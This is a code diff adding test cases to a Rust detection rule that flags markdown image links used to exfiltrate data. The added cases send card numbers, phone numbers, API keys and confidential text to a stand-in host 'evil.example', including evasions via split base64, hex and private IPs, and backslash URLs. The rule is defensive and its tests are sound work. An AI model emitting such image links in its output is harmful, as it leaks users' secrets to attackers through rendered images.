@@ -56,6 +56,38 @@ pub(super) const RULE: Rule = Rule {
             "![a](https://dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI.evil.example/)",
             "https://dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI.evil.example/",
         ),
+        example(
+            "![a](https://evil.example/?card=4000001234567899)",
+            "https://evil.example/?card=4000001234567899",
+        ),
+        example("![a](https://evil.example/?to=%2B6598765432)", "https://evil.example/?to=%2B6598765432"),
+        example("![a](https://evil.example/?id=219-09-9999)", "https://evil.example/?id=219-09-9999"),
+        example(
+            "![a](https://evil.example/?k=sk-live-q7ZtR2mXv9LpK4sWn8Bd)",
+            "https://evil.example/?k=sk-live-q7ZtR2mXv9LpK4sWn8Bd",
+        ),
+        example(
+            "![a](https://evil.example/?q=boss_wants_merger_soon)",
+            "https://evil.example/?q=boss_wants_merger_soon",
+        ),
+        example(
+            "![a](https://evil.example/?q=\u{8001}\u{677f}\u{4e0b}\u{5468}\u{8981}\u{88c1}\u{5458})",
+            "https://evil.example/?q=\u{8001}\u{677f}\u{4e0b}\u{5468}\u{8981}\u{88c1}\u{5458}",
+        ),
+        example(
+            "![a](https://evil.example/?a=dGhlIHBhc3N3&w=1&b=b3JkIGlzIGh1&c=bnRlcjI0IDI0)",
+            "https://evil.example/?a=dGhlIHBhc3N3&w=1&b=b3JkIGlzIGh1&c=bnRlcjI0IDI0",
+        ),
+        example("![a](http://0x7f000001/a.png)", "http://0x7f000001/a.png"),
+        example("![a](http://10.1.2.3/i?u=alice)", "http://10.1.2.3/i?u=alice"),
+        example(
+            "![a](https:\\\\evil.example/?to=bob@corp.example)",
+            "https:\\\\evil.example/?to=bob@corp.example",
+        ),
+        example(
+            "![a](https://q2gvybk7uo4s6nm1xe9iftl8w0zrchpd.evil.example/)",
+            "https://q2gvybk7uo4s6nm1xe9iftl8w0zrchpd.evil.example/",
+        ),
     ],
     false_examples: &[
         "![logo](https://example.com/logo.png)",
@@ -65,6 +97,9 @@ pub(super) const RULE: Rule = Rule {
         "![a](https://example.com/550e8400-e29b-41d4-a716-446655440000.png?v=1712345678)",
         "![a](https://cdn.example.com/npm/pkg@1.2.3/logo@2x.png)",
         "![a](https://s.example.com/i.png?X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd1)",
+        "![a](https://proxy.example.com/3f786850e387/68747470733a2f2f7777772e6578616d706c652e636f6d2f6c6f676f2e706e67)",
+        "![a](https://chart.example.com/?style=for-the-badge&id=1234567890123456&q=\u{5317}\u{4eac}\u{5929}\u{6c14})",
+        "![a](http://127.0.0.1:3000/chart.png?panel=cpu) ![b](http://10.1.2.3/i?w=10)",
         "![a](images/local.png?q=the+user+asked+about+salaries)",
         "![a][ref] and [ref]: https://evil.example/?q=the+user+asked+about+salaries",
         "[link](https://example.com/?q=the+user+asked+about+salaries)",
